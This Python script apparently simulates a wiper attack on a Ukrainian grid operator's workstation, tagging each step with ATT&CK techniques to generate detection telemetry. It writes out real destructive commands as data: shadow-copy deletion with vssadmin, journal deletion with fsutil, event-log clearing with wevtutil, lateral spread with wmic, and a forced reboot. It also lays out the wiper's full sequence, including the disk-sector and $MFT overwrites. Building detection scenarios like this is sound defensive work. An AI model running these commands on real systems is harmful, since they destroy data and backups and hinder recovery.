"""A wiper, started by hand: it brings a partition manager's driver, stops crash dumps and shadow copies, overwrites files
and the disks' first sectors, goes to neighbours and reboots. Resembles HermeticWiper's and PathWiper's heirs (2023-2025)."""
import deeds
from scenery import Desktop

SETTING = {"start": "2025-06-05T05:00:11", "user": "GRID-OP3\\оператор", "home": "C:\\Users\\оператор",
           "computer": "GRID-OP3"}
SERVICES = deeds.SERVICES
FILES = (r"Documents\Схеми\Підстанція 4.vsdx", r"Documents\Журнал змін.xlsx", r"Documents\Звіт червень.docx",
         r"Desktop\Контакти.xlsx",
         r"Desktop\Черговий.txt", r"Pictures\IMG_2201.jpg", r"Documents\Паролі.kdbx", r"Documents\Backup\scada.bak")
NEIGHBOURS = ("10.0.2.31", "10.0.2.44")
HARD = r"\Device\Harddisk%d\DR%d"


def overwrite(c, process, path, size=196_608):
    c.open(process, path, 0x12019F)
    for at in range(0, size, 65536):
        c.write_at(process, path, at, 65536)
    c.close(process, path)


def story(c):
    desktop = Desktop(c)
    desktop.murmur(6)
    wiper = c.spawn(desktop.explorer, c.home + r"\Desktop\sha256sum.exe", integrity="High")
    deeds.begin(c, wiper)
    driver = c.system_root + r"\System32\drivers\zvdrv.sys"
    with c.behaviour("brings a driver to get at the disks", "high", ("T1543.003", "T1006", "T1561", "T1105", "T1068"),
                     wiper, "zvdrv"):
        c.drop(wiper, driver, 14_000)
        deeds.service(c, desktop, "zvdrv", r"\??\C:\Windows\System32\drivers\zvdrv.sys", kind=1, start=3)
        system = c.system("System", "")
        c.load(system, driver, 0xFFFFF80410000000)
    with c.behaviour("removes the driver's service again", "low", ("T1070", "T1112", "T1070.009"), wiper, "zvdrv"):
        c.delete_key(wiper, SERVICES + r"\zvdrv")
    with c.behaviour("keeps Windows from writing crash dumps", "medium", ("T1112", "T1685", "T1070"), wiper,
                     "CrashDumpEnabled"):
        c.set_value(wiper, r"HKLM\System\CurrentControlSet\Control\CrashControl\CrashDumpEnabled", "REG_DWORD", 0)
    with c.behaviour("switches the service of shadow copies off", "medium", ("T1490", "T1489"), (wiper, desktop.services),
                     "VSS"):
        c.set_value(desktop.services, SERVICES + r"\VSS\Start", "REG_DWORD", 4)
    with deeds.told(c, "deletes the journal of the volume", "high", ("T1070", "T1070.004", "T1490"), wiper,
                    ("deletejournal", "fsutil")) as helpers:
        helpers += deeds.command(c, wiper, "fsutil usn deletejournal /D C:")
    with deeds.told(c, "switches the recovery environment off", "medium", "T1490", wiper, "reagentc") as helpers:
        helpers += deeds.command(c, wiper, "reagentc /disable")
    with deeds.told(c, "deletes the shadow copies", "critical", "T1490", wiper, ("vssadmin", "shadows")) as helpers:
        helpers += deeds.command(c, wiper, "vssadmin delete shadows /all /quiet")
    with deeds.told(c, "clears the event logs", "high", ("T1685.005", "T1070"), wiper, ("wevtutil", "Security")) as helpers:
        shell = deeds.tool(c, wiper, 'cmd.exe /c "for /F "tokens=*" %1 in (\'wevtutil.exe el\') DO wevtutil.exe cl "%1""')
        helpers += [shell] + deeds.command(c, shell, "wevtutil.exe el", shell=False)
        for name in ("Application", "Security", "Setup", "System", "Microsoft-Windows-Sysmon/Operational"):
            helpers += deeds.command(c, shell, 'wevtutil.exe cl "%s"' % name, shell=False)
        c.exit(shell)
    c.wait(5)
    with deeds.told(c, "asks which computers there are", "low", ("T1018", "T1135"), wiper, ("net view", "arp")) as helpers:
        helpers += deeds.command(c, wiper, "net view /all")
        helpers += deeds.command(c, wiper, "arp -a")
    with c.behaviour("copies itself to neighbours' administrative shares", "high", ("T1021.002", "T1570"), wiper,
                     NEIGHBOURS):
        for address in NEIGHBOURS:
            c.exchange(system, (address, 445), 53100, [400, 600], [500, 700])
            c.read(wiper, wiper.image, 130_000)
            c.drop(wiper, r"\\%s\ADMIN$\sha256sum.exe" % address, 130_000)
    with deeds.told(c, "starts itself on the neighbours", "high", ("T1047", "T1021.002", "T1569.002"), wiper,
                    NEIGHBOURS) as helpers:
        for address in NEIGHBOURS:
            helpers += deeds.command(c, wiper, r'wmic /node:%s process call create "C:\Windows\sha256sum.exe"' % address)
    desktop.murmur(3)
    c.wait(60)
    with c.behaviour("overwrites the user's files", "critical", ("T1485", "T1561.001"), wiper,
                     ("Documents", "Desktop", "Журнал змін.xlsx", "scada.bak")):
        for folder in ("Documents", "Desktop", "Pictures"):
            deeds.list_folder(c, wiper, c.home + "\\" + folder)
        for name in FILES:
            overwrite(c, wiper, c.home + "\\" + name)
            c.rename(wiper, c.home + "\\" + name, c.home + "\\" + name.rsplit("\\", 1)[0] + r"\%06x" % (len(name) * 77777))
        for number in range(24):
            path = r"D:\Архів\2025\лист %02d.pdf" % number
            overwrite(c, wiper, path, 65536)
            c.delete(wiper, path)
    with c.behaviour("overwrites the first sectors of the disks", "critical",
                     ("T1561.002", "T1561", "T1561.001", "T1542.003"), wiper,
                     ("Harddisk0", "DR0", "PhysicalDrive0")):
        for disk in range(2):
            path = HARD % (disk, disk)
            c.open(wiper, path, 0x12019F)
            for at in range(0, 16 * 4096, 4096):
                c.write_at(wiper, path, at, 4096)
            c.close(wiper, path)
    with c.behaviour("overwrites the file table of the volume", "critical", ("T1561.002", "T1561", "T1561.001"), wiper,
                     "$MFT"):
        for name in ("$MFT", "$MFTMirr", "$LogFile", "$Boot", "$Bitmap"):
            c.open(wiper, "C:\\" + name, 0x12019F)
            c.write_at(wiper, "C:\\" + name, 0, 65536)
            c.close(wiper, "C:\\" + name)
    with deeds.told(c, "has the computer start anew", "medium", "T1529", wiper, "shutdown") as helpers:
        helpers += deeds.command(c, wiper, "shutdown /r /f /t 0")
    c.exit(wiper)
